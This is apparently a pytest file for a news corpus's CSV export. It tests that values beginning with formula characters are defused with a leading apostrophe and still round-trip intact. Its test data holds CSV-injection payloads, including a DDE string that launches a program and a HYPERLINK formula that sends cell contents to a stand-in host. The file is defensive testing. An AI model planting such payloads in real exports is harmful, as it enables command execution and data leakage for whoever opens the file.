"""No text of a stranger is a formula to a spreadsheet, and each comes back as it was."""

import csv
import shutil
import subprocess
from io import StringIO
from pathlib import Path

import pytest
from corpus_commands import Warraq
from hypothesis import given
from hypothesis import strategies as st
from storage_samples import NOW, article

from storage.articles import store
from storage.database import open_database
from storage.formats.csv_cells import HarmlessWriter, harmless_cell, original_cell
from text.terminal import printable

FORMULAS = [
    front + sign + "1+1"
    for front in ("", " ", "\t", "\r", "\n", '"', "'", " \t'\"", "\u00a0", "\u200b", "«")
    for sign in "=+-@＝＋－＠"
] + ['=HYPERLINK("http://a.example/?"&A1;"x")', "=cmd|'/C calc'!A0", "@SUM(1;1)", "\t", "\r", "'"]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_is_text(text: str) -> None:
    assert harmless_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["خبر", "a=b", "1-2", "", None, 5, -5, 1.5])
def test_what_is_no_formula_stays(value: object) -> None:
    assert harmless_cell(value) == value


@given(st.lists(st.text() | st.sampled_from(FORMULAS), min_size=1))
def test_every_text_comes_back(texts: list[str]) -> None:
    stream = StringIO(newline="")
    HarmlessWriter(stream).writerow(texts)
    [cells] = csv.reader(StringIO(stream.getvalue(), newline=""))
    assert [original_cell(cell) for cell in cells] == texts
    assert not any(cell.lstrip(' \t\r\n"').startswith(tuple("=+-@＝＋－＠")) for cell in cells)


def corpus(folder: Path) -> Path:
    """A CSV whose every text is a formula, as the command writes it."""
    warraq = Warraq(folder / "data")
    with open_database(warraq.data) as db:
        for number, text in enumerate(FORMULAS):
            body = f"{text} خبر رقم {number}"
            fields = dict.fromkeys(("title", "section", "source", "author", "agency"), text)
            store(db, article(number, paragraphs=(body,), tags=(text,), **fields), now=NOW)
    warraq("export", folder / "corpus.csv")
    return folder / "corpus.csv"


def test_the_export_has_no_formula_and_says_that_it_is_utf8(tmp_path: Path) -> None:
    path = corpus(tmp_path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfnumber,")
    with path.open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(FORMULAS)
    for number, row in enumerate(rows):
        assert row["number"] == str(number)
        assert not any(cell.lstrip()[:1] in tuple("=+-@＝＋－＠") for cell in row.values())
        assert original_cell(row["title"]) == " ".join(printable(FORMULAS[number]).split())


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (libreoffice-calc)")
def test_a_spreadsheet_finds_no_formula(tmp_path: Path) -> None:
    (tmp_path / "raw.csv").write_text("a,b\n=1+1,x\n")
    for path in (tmp_path / "raw.csv", corpus(tmp_path)):
        subprocess.run(
            [
                *("soffice", f"-env:UserInstallation=file://{tmp_path}/office", "--headless"),
                # Comma, double quote, UTF-8; formulas are evaluated, as on opening by hand.
                "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1",
                *("--convert-to", "fods", "--outdir", tmp_path / "out", path),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
    raw, made = (
        next((tmp_path / "out").glob(f"{name}*")).read_text() for name in ("raw", "corpus")
    )
    assert "table:formula" in raw
    assert "table:formula" not in made
    assert "خبر رقم 3" in made
